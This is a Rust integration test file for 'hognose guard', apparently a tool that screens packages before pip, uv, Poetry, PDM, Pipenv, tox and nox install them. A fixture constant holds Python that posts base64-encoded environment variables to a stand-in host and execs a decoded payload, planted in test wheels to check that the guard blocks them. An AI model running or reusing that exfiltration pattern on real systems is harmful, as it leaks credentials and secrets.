//! `hognose guard` before real installers: an old pip and a new one, uv, Poetry, PDM, Pipenv, tox, nox, pip-tools.

#![expect(
    clippy::unwrap_used,
    clippy::panic,
    clippy::print_stderr,
    reason = "a test stops at the first surprise, and says what it skips"
)]

#[path = "inspect/archives.rs"]
#[expect(dead_code, reason = "a part is used")]
mod archives;
mod common;

use std::path::PathBuf;

use common::upstream::Upstream;
use common::{Outcome, Sandbox, root};

const OLD: &str = "data-upload-time=\"2024-01-02T03:04:05Z\"";
const YOUNG: &str = "data-upload-time=\"2026-11-17T11:00:00Z\"";

/// The folder with environments of installers, which `cargo xtask test` makes.
fn installers() -> PathBuf {
    match std::env::var_os("HOGNOSE_TEST_INSTALLERS") {
        Some(folder) => PathBuf::from(folder),
        None => panic!(
            "HOGNOSE_TEST_INSTALLERS is not set: run `cargo xtask test`, which installs pip, uv and Poetry"
        ),
    }
}

struct Set {
    sandbox: Sandbox,
    upstream: Upstream,
}

fn wheel(name: &str, version: &str, text: &str) -> Vec<u8> {
    archives::wheel(
        name,
        version,
        &[(&format!("{name}.py"), text.to_owned())],
        "",
    )
}

/// A shape, not a weapon: nobody has the host it names.
const BAD: &str = "import os, json, base64, urllib.request\nurllib.request.urlopen('http://example.invalid/c', data=base64.b64encode(json.dumps(dict(os.environ)).encode()))\nexec(base64.b64decode('cHJpbnQoMSk='))\n";

impl Set {
    fn new() -> Self {
        let upstream = Upstream::new();
        let (old, young) = (
            wheel("good", "1.0", "X = 1\n"),
            wheel("good", "2.0", "X = 2\n"),
        );
        upstream.project(
            "good",
            &[
                ("good-1.0-py3-none-any.whl", &old, OLD),
                ("good-2.0-py3-none-any.whl", &young, YOUNG),
            ],
        );
        let bad = wheel("bad", "1.0", BAD);
        upstream.project("bad", &[("bad-1.0-py3-none-any.whl", &bad, OLD)]);
        Self {
            sandbox: Sandbox::new(),
            upstream,
        }
    }

    /// Runs an installer behind the guard.
    fn guard(&self, flags: &[&str], command: &[&str]) -> Outcome {
        let feed = root().join("examples/feeds");
        let mut all = vec!["guard", "--feed", feed.to_str().unwrap()];
        all.extend(flags);
        all.push("--");
        all.extend(command);
        let output = self
            .sandbox
            .command(&all)
            .env_remove("PIP_NO_INDEX")
            .env("PIP_INDEX_URL", self.upstream.url())
            .env("PIP_DISABLE_PIP_VERSION_CHECK", "1")
            .env("PDM_CHECK_UPDATE", "0")
            .env("PIPENV_IGNORE_VIRTUALENVS", "1")
            .env("VIRTUAL_ENV", self.sandbox.work())
            .output()
            .unwrap();
        Outcome {
            code: output.status.code().unwrap_or(-1),
            stdout: self.sandbox.clean(&output.stdout),
            stderr: self.sandbox.clean(&output.stderr),
        }
    }

    fn pip(&self, which: &str, words: &[&str]) -> Outcome {
        let python = installers().join(which).join("bin/python");
        let target = self.sandbox.work().join("installed");
        let mut command = vec![python.to_str().unwrap(), "-m", "pip", "install", "--target"];
        command.push(target.to_str().unwrap());
        command.extend(words);
        self.guard(&[], &command)
    }

    fn uv(&self, words: &[&str]) -> Outcome {
        let uv = installers().join("new/bin/uv");
        let python = installers().join("new/bin/python");
        let target = self.sandbox.work().join("installed");
        let mut command = vec![uv.to_str().unwrap(), "pip", "install", "--python"];
        command.extend([
            python.to_str().unwrap(),
            "--target",
            target.to_str().unwrap(),
        ]);
        command.extend(words);
        self.guard(&[], &command)
    }

    fn has(&self, what: &str) -> bool {
        self.sandbox.work().join("installed").join(what).exists()
    }
}

/// The words of the guard, without those of the installer.
fn words(outcome: &Outcome) -> String {
    let start = outcome
        .stderr
        .find("guard: ")
        .unwrap_or(outcome.stderr.len());
    outcome.stderr[start..].to_owned()
}

const WITHHELD: &str = "guard: 1 withheld\n  good 2.0, got 1.0: HOG-STATUS-new: ";

#[test]
fn an_unpinned_requirement_gets_the_newest_version_that_is_allowed() {
    for which in ["old", "new", "uv"] {
        let set = Set::new();
        let got = match which {
            "uv" => set.uv(&["good"]),
            which => set.pip(which, &["good"]),
        };
        assert_eq!(got.code, 0, "{which}: {}", got.whole());
        assert!(set.has("good-1.0.dist-info"), "{which}");
        assert!(
            words(&got).starts_with(WITHHELD),
            "{which}: {}",
            words(&got)
        );
    }
}

#[test]
fn a_pinned_version_that_is_withheld_says_why() {
    for which in ["old", "new", "uv"] {
        let set = Set::new();
        let got = match which {
            "uv" => set.uv(&["good==2.0"]),
            which => set.pip(which, &["good==2.0"]),
        };
        assert_ne!(got.code, 0, "{which}");
        // The installer itself shows the reason.
        let own = got.stderr.split("guard: ").next().unwrap();
        assert!(
            own.contains("Withheld by policy") && own.contains("HOG-STATUS-new"),
            "{which}: {own}"
        );
        assert!(
            words(&got)
                .starts_with("guard: 1 refused\n  good-2.0-py3-none-any.whl: HOG-STATUS-new"),
            "{which}: {}",
            words(&got)
        );
        assert!(!set.has("good.py"));
    }
}

#[test]
fn what_behaves_like_malware_is_not_installed() {
    for which in ["old", "new", "uv"] {
        let set = Set::new();
        let got = match which {
            "uv" => set.uv(&["bad"]),
            which => set.pip(which, &["bad"]),
        };
        assert_ne!(got.code, 0, "{which}: {}", got.whole());
        let own = got.stderr.split("guard: ").next().unwrap();
        assert!(own.contains("HOG-MAL-"), "{which}: {own}");
        assert!(!set.has("bad.py"));
    }
}

/// Each of many releases that nobody has judged is one that would be refused, but for the oldest.
#[test]
fn an_unpinned_requirement_gets_past_releases_that_nobody_has_judged() {
    let ways: [fn(&Set) -> Outcome; 3] = [
        |set| set.pip("new", &["tricky"]),
        |set| set.pip("old", &["tricky"]),
        |set| set.uv(&["tricky"]),
    ];
    for way in ways {
        let set = Set::new();
        let files: Vec<(String, Vec<u8>, &str)> = (1..10)
            .map(|n| {
                let version = format!("{n}.0");
                // Bytes that differ: what is known of one says nothing of the next.
                let text = match n {
                    1 => "X = 1\n".to_owned(),
                    n => format!("Y = {n}\n{BAD}"),
                };
                let name = format!("tricky-{version}-py3-none-any.whl");
                let needs = if n == 9 {
                    "data-requires-python=\"&gt;=3.99\""
                } else {
                    OLD
                };
                (name, wheel("tricky", &version, &text), needs)
            })
            .collect();
        let all: Vec<_> = files
            .iter()
            .map(|(name, bytes, attributes)| (name.as_str(), bytes.as_slice(), *attributes))
            .collect();
        set.upstream.project("tricky", &all);
        let got = way(&set);
        assert_eq!(got.code, 0, "{}", got.whole());
        assert!(set.has("tricky-1.0.dist-info"), "{}", got.whole());
        let told = words(&got);
        assert!(
            told.contains("tricky 8.0 and 6 older, got 1.0: HOG-MAL-"),
            "{told}"
        );
        // One that was not for this Python was not fetched.
        let fetched = set.upstream.seen();
        assert!(
            !fetched.iter().any(|path| path.contains("tricky-9.0")),
            "{fetched:?}"
        );
    }
}

/// The same with attestations that do not hold, which are seen when a file is asked for.
#[test]
fn an_unpinned_requirement_gets_past_releases_whose_attestations_do_not_hold() {
    for uv in [false, true] {
        let set = Set::new();
        let mut page = String::new();
        for n in 1..9 {
            let name = format!("vouched-{n}.0-py3-none-any.whl");
            let bytes = wheel("vouched", &format!("{n}.0"), "X = 1\n");
            let more = if n > 1 { "data-provenance=\"/p\"" } else { "" };
            page.push_str(&format!(
                "<a href=\"/files/{name}#sha256={}\" {OLD} {more}>{name}</a>\n",
                common::upstream::hex(&bytes)
            ));
            let path = format!("/files/{name}");
            set.upstream
                .put(&path, common::upstream::Answer::file(bytes));
        }
        let answer = common::upstream::Answer::html;
        set.upstream.put("/simple/vouched/", answer(page));
        set.upstream
            .put("/p", answer("this is no attestation".to_owned()));
        let got = if uv {
            set.uv(&["vouched"])
        } else {
            set.pip("new", &["vouched"])
        };
        assert_eq!(got.code, 0, "{}", got.whole());
        assert!(set.has("vouched-1.0.dist-info"), "{}", got.whole());
        assert!(words(&got).contains("HOG-PROV-bad"), "{}", got.whole());
    }
}

#[test]
fn indexes_in_arguments_are_watched_too() {
    let set = Set::new();
    let other = Upstream::new();
    let bad = wheel("bad", "1.0", BAD);
    other.project("bad", &[("bad-1.0-py3-none-any.whl", &bad, OLD)]);
    let url = other.url();
    let got = set.pip("new", &["--index-url", &url, "bad"]);
    assert_ne!(got.code, 0, "{}", got.whole());
    assert!(
        words(&got).contains("bad-1.0-py3-none-any.whl: HOG-MAL-"),
        "{}",
        words(&got)
    );
    assert!(other.seen().contains(&"/simple/bad/".to_owned()));
    let refused = set.pip(
        "new",
        &["--find-links", "https://example.invalid/links", "good"],
    );
    assert_eq!(refused.code, 2, "{}", refused.whole());
    assert!(
        refused.stderr.contains("cannot stand before"),
        "{}",
        refused.stderr
    );
}

#[test]
fn locks_are_judged_before_the_command_starts() {
    let set = Set::new();
    let poetry = installers().join("new/bin/poetry");
    let poetry = poetry.to_str().unwrap();
    // Poetry takes its index from its own files: it is said in plain words what cannot be stood before.
    let got = set.guard(&[], &[poetry, "lock"]);
    assert_eq!(got.code, 2, "{}", got.whole());
    assert!(
        got.stderr.contains("Poetry takes its index"),
        "{}",
        got.stderr
    );
    let lock = |name: &str, bytes: &[u8]| {
        format!(
            "[[package]]\nname = \"{name}\"\nversion = \"1.0\"\ndescription = \"\"\noptional = false\npython-versions = \"*\"\nfiles = [{{file = \"{name}-1.0-py3-none-any.whl\", hash = \"sha256:{}\"}}]\n[metadata]\nlock-version = \"2.1\"\npython-versions = \"*\"\ncontent-hash = \"0\"\n",
            common::upstream::hex(bytes)
        )
    };
    set.sandbox.write("pyproject.toml", PROJECT);
    set.sandbox
        .write("poetry.lock", lock("bad", &wheel("bad", "1.0", BAD)));
    let got = set.guard(&[], &[poetry, "install"]);
    assert_eq!(got.code, 1, "{}", got.whole());
    assert!(
        got.stderr.contains("block  bad 1.0: HOG-MAL-"),
        "{}",
        got.stderr
    );
    assert!(got.stderr.contains("was not started"), "{}", got.stderr);
    // Bytes of another digest than the lock's are not what is judged.
    set.sandbox.write("poetry.lock", lock("good", b"other"));
    let got = set.guard(&[], &[poetry, "install"]);
    assert_eq!(got.code, 3, "{}", got.whole());
    set.sandbox.write(
        "poetry.lock",
        lock("good", &wheel("good", "1.0", "X = 1\n")),
    );
    let got = set.guard(&[], &["sh", "-c", "exit 0"]);
    assert_eq!(got.code, 0);
}

#[test]
fn locks_are_judged_without_a_command() {
    let set = Set::new();
    set.sandbox
        .write("requirements.txt", "good==1.0\nbad==1.0\ngood==2.0\n");
    let feed = root().join("examples/feeds");
    let check = |more: &[&str]| {
        let mut all = vec!["gateway", "check", "--feed", feed.to_str().unwrap()];
        all.extend(more);
        let output = set
            .sandbox
            .command(&all)
            .env_remove("PIP_NO_INDEX")
            .env("PIP_INDEX_URL", set.upstream.url())
            .env("VIRTUAL_ENV", set.sandbox.work())
            .output()
            .unwrap();
        (
            output.status.code().unwrap(),
            set.sandbox.clean(&output.stdout),
        )
    };
    let (code, text) = check(&["requirements.txt"]);
    assert_eq!(code, 1, "{text}");
    assert!(text.contains("block  bad 1.0: HOG-MAL-"), "{text}");
    assert!(text.contains("block  good 2.0: HOG-STATUS-new"), "{text}");
    set.sandbox.write("fine.txt", "good==1.0\n");
    assert_eq!(check(&["fine.txt"]).0, 0);
    set.sandbox.write("open.txt", "good>=1.0\nnobody==1.0\n");
    let (code, text) = check(&["open.txt"]);
    assert_eq!(code, 3, "{text}");
    assert!(text.contains("good is not pinned"), "{text}");
}

#[test]
fn the_command_decides_the_exit_code() {
    let set = Set::new();
    let got = set.guard(&["--quiet"], &["sh", "-c", "exit 7"]);
    assert_eq!((got.code, got.stderr.as_str()), (7, ""));
    let got = set.guard(&[], &["sh", "-c", "exit 0"]);
    assert_eq!(got.code, 0);
    assert_eq!(got.stderr, "");
    let missing = set.guard(&[], &["no-such-program-of-anybody"]);
    assert_eq!(missing.code, 2, "{}", missing.whole());
}

#[test]
fn observing_refuses_nothing() {
    let set = Set::new();
    let python = installers().join("new/bin/python");
    let target = set.sandbox.work().join("installed");
    let command = [
        python.to_str().unwrap(),
        "-m",
        "pip",
        "install",
        "--target",
        target.to_str().unwrap(),
        "good==2.0",
    ];
    let got = set.guard(&["--observe"], &command);
    assert_eq!(got.code, 0, "{}", got.whole());
    assert!(set.has("good-2.0.dist-info"));
    assert!(words(&got).contains("would be"), "{}", words(&got));
}

#[test]
fn only_who_knows_the_path_is_answered() {
    let set = Set::new();
    let script = "url=$PIP_INDEX_URL; base=${url%%/simple/}; host=${base%/*}; python3 - \"$url\" \"$host\" <<'END'\nimport sys, urllib.request, urllib.error\nprint(urllib.request.urlopen(sys.argv[1] + 'good/').status)\ntry:\n    print(urllib.request.urlopen(sys.argv[2] + '/simple/good/').status)\nexcept urllib.error.HTTPError as e:\n    print(e.code)\nEND";
    let got = set.guard(&[], &["sh", "-c", script]);
    assert_eq!(got.stdout, "200\n404\n", "{}", got.whole());
}

const PROJECT: &str = "[project]\nname = \"app\"\nversion = \"1\"\nrequires-python = \">=3.8\"\n";

impl Set {
    /// A front end of the environment `more`, with the variables it wants.
    fn more(&self, words: &[&str]) -> Outcome {
        let program = installers().join("more/bin").join(words[0]);
        let mut command = vec![program.to_str().unwrap()];
        command.extend(&words[1..]);
        self.guard(&[], &command)
    }

    /// Runs a program without the guard, to make a lock.
    fn alone(&self, program: &str, words: &[&str], variables: &[(&str, &str)]) {
        let made = self.sandbox.command(&[]);
        let own = made
            .get_envs()
            .filter_map(|(name, value)| Some((name, value?)));
        let output = std::process::Command::new(installers().join(program))
            .args(words)
            .env_clear()
            .envs(own)
            .envs(variables.iter().copied())
            .current_dir(self.sandbox.work())
            .output()
            .unwrap();
        let said = String::from_utf8_lossy(&output.stderr).into_owned();
        assert!(output.status.success(), "{program}: {said}");
    }

    fn uv_lock(&self, needs: &str) {
        let project = format!("{PROJECT}dependencies = [{needs}]\n");
        self.sandbox.write("pyproject.toml", project);
        let python = installers().join("new/bin/python");
        let variables = [
            ("UV_DEFAULT_INDEX", &*self.upstream.url()),
            ("UV_PYTHON", python.to_str().unwrap()),
        ];
        self.alone("new/bin/uv", &["lock"], &variables);
    }

    fn uv_project(&self, words: &[&str]) -> Outcome {
        let uv = installers().join("new/bin/uv");
        let python = installers().join("new/bin/python");
        let (verb, rest) = words.split_first().unwrap();
        let mut command = vec![uv.to_str().unwrap(), verb, "--python"];
        command.push(python.to_str().unwrap());
        command.extend(rest);
        self.guard(&[], &command)
    }
}

#[test]
fn an_index_that_uv_is_told_by_a_file_is_watched() {
    let set = Set::new();
    let other = Upstream::new();
    let bad = wheel("worse", "1.0", BAD);
    other.project("worse", &[("worse-1.0-py3-none-any.whl", &bad, OLD)]);
    let index = format!(
        "[[tool.uv.index]]\nname = \"other\"\nurl = \"{}\"\n",
        other.url()
    );
    set.sandbox
        .write("pyproject.toml", format!("{PROJECT}{index}"));
    let got = set.uv(&["worse"]);
    assert_ne!(got.code, 0, "{}", got.whole());
    assert!(!set.has("worse.py"), "{}", got.whole());
    assert!(words(&got).contains("HOG-MAL-"), "{}", got.whole());
}

#[test]
fn uv_keeps_to_the_lock_that_was_judged() {
    let set = Set::new();
    set.uv_lock("\"good==1.0\"");
    let got = set.uv_project(&["sync"]);
    assert_eq!(got.code, 0, "{}", got.whole());
    let there = |name: &str| {
        let lib = set.sandbox.work().join(".venv/lib");
        let pythons = std::fs::read_dir(lib).into_iter().flatten().flatten();
        pythons
            .map(|python| python.path().join("site-packages").join(name))
            .any(|path| path.exists())
    };
    assert!(there("good.py"));
    // The project wants something else by now: the lock does not say what would be installed.
    let locked = std::fs::read(set.sandbox.work().join("pyproject.toml")).unwrap();
    let wanted = format!("{PROJECT}dependencies = [\"bad\"]\n");
    set.sandbox.write("pyproject.toml", wanted);
    let got = set.uv_project(&["sync"]);
    assert_eq!(got.code, 3, "{}", got.whole());
    assert!(!there("bad.py"), "{}", got.whole());
    set.sandbox.write("pyproject.toml", locked);
    // What is wanted beside the lock is asked of the guard.
    let got = set.uv_project(&["run", "--with", "bad", "python", "-c", "import bad"]);
    assert_ne!(got.code, 0, "{}", got.whole());
    assert!(words(&got).contains("HOG-MAL-"), "{}", got.whole());
    set.uv_lock("\"bad\"");
    let got = set.uv_project(&["sync"]);
    assert_eq!(got.code, 1, "{}", got.whole());
    assert!(got.stderr.contains("was not started"), "{}", got.stderr);
}

#[test]
fn files_that_lead_past_the_guard_are_refused() {
    let set = Set::new();
    for text in [
        "--index-url https://index.example/simple\ngood\n",
        "good @ https://index.example/good-1.0-py3-none-any.whl\n",
        "good @ git+https://index.example/good\n",
        "-r more.txt\n",
    ] {
        set.sandbox.write(
            "more.txt",
            "--extra-index-url https://index.example/simple\n",
        );
        set.sandbox.write("requirements.txt", text);
        for option in [&["-r", "requirements.txt"][..], &["-rrequirements.txt"]] {
            let got = set.pip("new", option);
            assert_eq!(got.code, 2, "{text}: {}", got.whole());
        }
    }
    let project = format!("{PROJECT}dependencies = [\"good @ git+https://index.example/good\"]\n");
    set.sandbox.write("pyproject.toml", project);
    let got = set.pip("new", &["."]);
    assert_eq!(got.code, 2, "{}", got.whole());
}

#[test]
fn front_ends_get_the_newest_version_that_is_allowed() {
    let set = Set::new();
    set.sandbox.write("requirements.in", "good\n");
    let got = set.more(&[
        "pip-compile",
        "--no-emit-index-url",
        "--no-header",
        "--quiet",
    ]);
    assert_eq!(got.code, 0, "{}", got.whole());
    let made = std::fs::read_to_string(set.sandbox.work().join("requirements.txt")).unwrap();
    assert!(made.contains("good==1.0"), "{made}");
    assert!(words(&got).starts_with(WITHHELD), "{}", got.whole());
    // Nothing of the guard's own address stays in what is made, asked for or not.
    std::fs::remove_file(set.sandbox.work().join("requirements.txt")).unwrap();
    let got = set.more(&["pip-compile", "--quiet"]);
    assert_eq!(got.code, 0, "{}", got.whole());
    let made = std::fs::read_to_string(set.sandbox.work().join("requirements.txt")).unwrap();
    assert!(made.contains("good==1.0"), "{made}");
    assert!(!made.contains("127.0.0.1"), "{made}");
    let look = "import good; raise SystemExit(good.X != 1)";
    set.sandbox.write(
        "tox.ini",
        format!(
            "[tox]\nno_package = true\n[testenv]\ndeps = good\ncommands = python -c \"{look}\"\n"
        ),
    );
    let got = set.more(&["tox", "-q"]);
    assert_eq!(got.code, 0, "{}", got.whole());
    assert!(words(&got).starts_with(WITHHELD), "{}", got.whole());
    set.sandbox.write(
        "noxfile.py",
        format!("import nox\n@nox.session\ndef look(session):\n    session.install('good')\n    session.run('python', '-c', '{look}')\n"),
    );
    let got = set.more(&["nox"]);
    assert_eq!(got.code, 0, "{}", got.whole());
    assert!(words(&got).starts_with(WITHHELD), "{}", got.whole());
}

#[test]
fn pdm_installs_what_was_judged() {
    let set = Set::new();
    set.sandbox.write("pyproject.toml", PROJECT);
    let got = set.more(&["pdm", "add", "--no-self", "good"]);
    assert_eq!(got.code, 0, "{}", got.whole());
    assert!(words(&got).starts_with(WITHHELD), "{}", got.whole());
    let lock = std::fs::read_to_string(set.sandbox.work().join("pdm.lock")).unwrap();
    assert!(lock.contains("version = \"1.0\""), "{lock}");
    assert!(!lock.contains("127.0.0.1"), "{lock}");
    let got = set.more(&["pdm", "add", "--no-self", "bad"]);
    assert_ne!(got.code, 0, "{}", got.whole());
    assert!(words(&got).contains("HOG-MAL-"), "{}", got.whole());
}

#[test]
fn pipenv_installs_what_was_judged() {
    let set = Set::new();
    let pins = |name: &str, bytes: &[u8]| {
        serde_json::json!({
            "_meta": { "hash": { "sha256": "0" }, "pipfile-spec": 6, "requires": {},
                "sources": [{ "name": "main", "url": set.upstream.url(), "verify_ssl": true }] },
            "default": { name: { "hashes": [format!("sha256:{}", common::upstream::hex(bytes))],
                "index": "main", "version": "==1.0" } },
            "develop": {}
        })
        .to_string()
    };
    let source = format!(
        "[[source]]\nname = \"main\"\nurl = \"{}\"\nverify_ssl = true\n[packages]\ngood = \"==1.0\"\n",
        set.upstream.url()
    );
    set.sandbox.write("Pipfile", source);
    set.sandbox.write(
        "Pipfile.lock",
        pins("good", &wheel("good", "1.0", "X = 1\n")),
    );
    let got = set.more(&["pipenv", "sync"]);
    assert_eq!(got.code, 0, "{}", got.whole());
    set.sandbox
        .write("Pipfile.lock", pins("bad", &wheel("bad", "1.0", BAD)));
    let got = set.more(&["pipenv", "sync"]);
    assert_eq!(got.code, 1, "{}", got.whole());
    assert!(got.stderr.contains("was not started"), "{}", got.stderr);
    let got = set.more(&["pipenv", "install", "good"]);
    assert_eq!(got.code, 2, "{}", got.whole());
}

#[test]
fn shims_run_installers_behind_the_guard() {
    let set = Set::new();
    let shims = set.sandbox.work().join("shims");
    let named = shims.to_str().unwrap();
    let installed = set
        .sandbox
        .run(&["guard", "--install-shims", "--shims-dir", named]);
    assert_eq!(installed.code, 0, "{}", installed.whole());
    let real = installers().join("new/bin");
    let feed = root().join("examples/feeds");
    set.sandbox.write(
        "hognose.toml",
        format!("[feeds]\ndirectory = \"{}\"\n", feed.display()),
    );
    let target = set.sandbox.work().join("installed");
    let path =
        std::env::join_paths([shims.clone(), real, "/usr/bin".into(), "/bin".into()]).unwrap();
    let made = set.sandbox.command(&[]);
    let own = made
        .get_envs()
        .filter_map(|(name, value)| Some((name, value?)));
    let own: Vec<_> = own.collect();
    let run = |words: &[&str]| {
        std::process::Command::new(shims.join("pip"))
            .args(words)
            .env_clear()
            .envs(own.iter().copied())
            .env_remove("PIP_NO_INDEX")
            .env("PATH", &path)
            .env("PIP_INDEX_URL", set.upstream.url())
            .env("PIP_DISABLE_PIP_VERSION_CHECK", "1")
            .current_dir(set.sandbox.work())
            .output()
            .unwrap()
    };
    let got = run(&["install", "--target", target.to_str().unwrap(), "good"]);
    let said = String::from_utf8_lossy(&got.stderr).into_owned();
    assert!(got.status.success(), "{said}");
    assert!(said.contains(WITHHELD), "{said}");
    assert!(set.has("good-1.0.dist-info"));
    // What installs nothing is not guarded.
    let listed = run(&["--version"]);
    assert!(
        listed.status.success() && listed.stderr.is_empty(),
        "{listed:?}"
    );
    // Only what is ours goes.
    set.sandbox.write("shims/pdm", "#!/bin/sh\n");
    let removed = set
        .sandbox
        .run(&["guard", "--remove-shims", "--shims-dir", named]);
    assert_eq!(removed.code, 0, "{}", removed.whole());
    assert!(!shims.join("pip").exists() && shims.join("pdm").exists());
    let refused = set
        .sandbox
        .run(&["guard", "--install-shims", "--shims-dir", named]);
    assert_eq!(refused.code, 2, "{}", refused.whole());
}

#[test]
fn every_file_that_a_lock_allows_is_judged() {
    let set = Set::new();
    let plain = wheel("multi", "1.0", "X = 1\n");
    let native = wheel("multi", "1.0", BAD);
    set.upstream.project(
        "multi",
        &[
            ("multi-1.0-py3-none-any.whl", &plain, OLD),
            (
                "multi-1.0-cp311-cp311-manylinux_2_17_x86_64.whl",
                &native,
                OLD,
            ),
        ],
    );
    set.uv_lock("\"multi\"");
    let got = set.uv_project(&["sync"]);
    assert_eq!(got.code, 1, "{}", got.whole());
    assert!(got.stderr.contains("was not started"), "{}", got.stderr);
}

#[test]
fn locks_that_do_not_hold_to_what_was_judged_are_refused() {
    let set = Set::new();
    set.uv_lock("\"good==1.0\"");
    let path = set.sandbox.work().join("uv.lock");
    let lock = std::fs::read_to_string(&path).unwrap();
    // Without hashes anything may come from where the lock says.
    let start = lock.find(", hash = \"sha256:").unwrap();
    let end = start + lock[start..].find("\", ").unwrap() + 1;
    let free = format!("{}{}", &lock[..start], &lock[end..]);
    std::fs::write(&path, free).unwrap();
    let got = set.uv_project(&["sync"]);
    assert_eq!(got.code, 3, "{}", got.whole());
    assert!(got.stderr.contains("has no sha256"), "{}", got.stderr);
    // What comes from an address of its own is not seen.
    let direct = lock.replace(
        &format!("source = {{ registry = \"{}\" }}", set.upstream.url()),
        "source = { url = \"https://index.example/good-1.0-py3-none-any.whl\" }",
    );
    assert_ne!(direct, lock);
    std::fs::write(&path, direct).unwrap();
    let got = set.uv_project(&["sync"]);
    assert_eq!(got.code, 3, "{}", got.whole());
    // A script with a lock of its own.
    std::fs::write(&path, lock).unwrap();
    set.sandbox
        .write("x.py", "# /// script\n# dependencies = []\n# ///\n");
    set.sandbox.write("x.py.lock", "version = 1\n");
    let got = set.uv_project(&["run", "x.py"]);
    assert_eq!(got.code, 2, "{}", got.whole());
}

#[test]
fn files_that_cannot_be_read_as_pip_does_are_refused() {
    let set = Set::new();
    let index = "--index-url https://index.example/simple\ngood\n";
    let utf16: Vec<u8> = index.encode_utf16().flat_map(u16::to_le_bytes).collect();
    set.sandbox
        .write("wide.txt", [&b"\xff\xfe"[..], &utf16].concat());
    set.sandbox.write("deps", index);
    set.sandbox.write("r.lst", index);
    set.sandbox.write(
        "short.txt",
        "--extra-i=https://index.example/simple\ngood\n",
    );
    set.sandbox.write("coded.txt", "# coding: utf-7\ngood\n");
    set.sandbox
        .write("remote.txt", "-r https://index.example/r.txt\n");
    for file in [
        "wide.txt",
        "deps",
        "r.lst",
        "short.txt",
        "coded.txt",
        "remote.txt",
        "no.txt",
    ] {
        let got = set.pip("new", &["-r", file]);
        assert_eq!(got.code, 2, "{file}: {}", got.whole());
    }
    set.sandbox
        .write("fine.txt", "--no-binary other\ngood # >=1\n");
    let got = set.pip("new", &["-r", "fine.txt"]);
    assert_eq!(got.code, 0, "{}", got.whole());
}

#[test]
fn pips_own_files_and_other_spellings_do_not_count() {
    let set = Set::new();
    let other = Upstream::new();
    let evil = wheel("good", "9.0", "X = 666\n");
    other.project("good", &[("good-9.0-py3-none-any.whl", &evil, OLD)]);
    set.sandbox.write(
        "pip.conf",
        format!(
            "[global]\nfind-links = {0}good/\nextra-index-url = {0}\n",
            other.url()
        ),
    );
    let python = installers().join("new/bin/python");
    let target = set.sandbox.work().join("installed");
    let script = format!(
        "export PIP_CONFIG_FILE=pip.conf PIP_PYPI_URL={0} PIP_index_url={0}; exec \"$@\"",
        other.url()
    );
    let feed = root().join("examples/feeds");
    let made = set
        .sandbox
        .command(&["guard", "--index-url", &set.upstream.url(), "--feed"]);
    let output = std::process::Command::new("sh")
        .args(["-c", &script, "sh"])
        .arg(made.get_program())
        .args(made.get_args())
        .arg(feed)
        .args(["--"])
        .arg(python)
        .args(["-m", "pip", "install", "--target"])
        .arg(target)
        .arg("good")
        .env_clear()
        .envs(
            made.get_envs()
                .filter_map(|(name, value)| Some((name, value?))),
        )
        .env_remove("PIP_NO_INDEX")
        .current_dir(set.sandbox.work())
        .output()
        .unwrap();
    assert!(output.status.success(), "{output:?}");
    assert!(set.has("good-1.0.dist-info"), "{output:?}");
    assert!(other.seen().is_empty());
}

#[test]
fn a_confined_command_connects_to_the_guard_alone() {
    let set = Set::new();
    let other = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let port = other.local_addr().unwrap().port();
    let python = installers().join("new/bin/python");
    let python = python.to_str().unwrap();
    let script = format!(
        "import os, socket, subprocess, sys, urllib.request\nprint(urllib.request.urlopen(os.environ['PIP_INDEX_URL'] + 'good/').status)\nwords = [sys.executable, '-c', 'import socket; socket.create_connection((\"127.0.0.1\", {port}))']\nprint(subprocess.run(words, capture_output=True).stderr.decode())\n"
    );
    let free = set.guard(&[], &[python, "-c", &script]);
    assert_eq!(free.stdout.trim(), "200", "{}", free.whole());
    let got = set.guard(&["--confine"], &[python, "-c", &script]);
    if got.stderr.contains("this machine cannot confine") {
        // An older kernel: said, and nothing was started.
        assert_eq!((got.code, got.stdout.as_str()), (2, ""), "{}", got.whole());
        return;
    }
    assert!(got.stdout.starts_with("200\n"), "{}", got.whole());
    assert!(got.stdout.contains("PermissionError"), "{}", got.whole());
    // An installer works as ever, and what leads past the guard leads nowhere.
    let target = set.sandbox.work().join("installed");
    let pip = [
        python,
        "-m",
        "pip",
        "install",
        "--target",
        target.to_str().unwrap(),
    ];
    let installed = set.guard(&["--confine"], &[&pip[..], &["good"]].concat());
    assert_eq!(installed.code, 0, "{}", installed.whole());
    assert!(set.has("good.py"));
    set.sandbox.write("uv.lock", "version = 1\n");
    set.sandbox.write("pyproject.toml", "");
    let uv = installers().join("new/bin/uv");
    let locked = set.guard(&["--confine"], &[uv.to_str().unwrap(), "sync"]);
    assert_eq!(locked.code, 2, "{}", locked.whole());
    assert!(
        locked.stderr.contains("leave --confine out"),
        "{}",
        locked.whole()
    );
}

#[test]
fn files_of_tools_that_lead_past_the_guard_are_refused() {
    let set = Set::new();
    let tox = installers().join("more/bin/tox");
    let compile = installers().join("more/bin/pip-sync");
    let run = |command: &[&str]| set.guard(&[], command);
    set.sandbox.write(
        "tox.ini",
        "[testenv]\nskip_install = true\ndeps =\n    --index-url https://index.example/simple/\n    good\ncommands = python -c pass\n",
    );
    let refused = run(&[tox.to_str().unwrap(), "-e", "py"]);
    assert_eq!(refused.code, 2, "{}", refused.whole());
    assert!(
        refused.stderr.contains("tox.ini installs from an index"),
        "{}",
        refused.whole()
    );
    set.sandbox.write(
        "requirements.txt",
        "--index-url https://index.example/simple/\ngood\n",
    );
    let refused = run(&[compile.to_str().unwrap()]);
    assert_eq!(refused.code, 2, "{}", refused.whole());
    assert!(
        refused.stderr.contains("names the index"),
        "{}",
        refused.whole()
    );
    for command in [
        &["env", "-i", "pip", "install", "good"][..],
        &[
            "env",
            "PIP_INDEX_URL=https://index.example/simple/",
            "pip",
            "install",
            "good",
        ],
        &["uv", "run", "-"],
        &["uv", "run", "--", "poetry", "install"],
    ] {
        let refused = run(command);
        assert_eq!(refused.code, 2, "{command:?}: {}", refused.whole());
    }
}

/// What the command itself sees of variables, each on a line.
fn variables(set: &Set, inherited: &[(&str, &str)]) -> String {
    let python = installers().join("new/bin/python");
    let feed = root().join("examples/feeds");
    let script = "import os\nfor name, value in sorted(os.environ.items()):\n    print(name + '=' + value)\n";
    let index = set.upstream.url();
    let all = [
        "guard",
        "--index-url",
        &index,
        "--feed",
        feed.to_str().unwrap(),
        "--",
    ];
    let mut command = set.sandbox.command(&all);
    let output = command
        .args([python.to_str().unwrap(), "-c", script])
        .env_remove("PIP_NO_INDEX")
        .envs(inherited.iter().copied())
        .output()
        .unwrap();
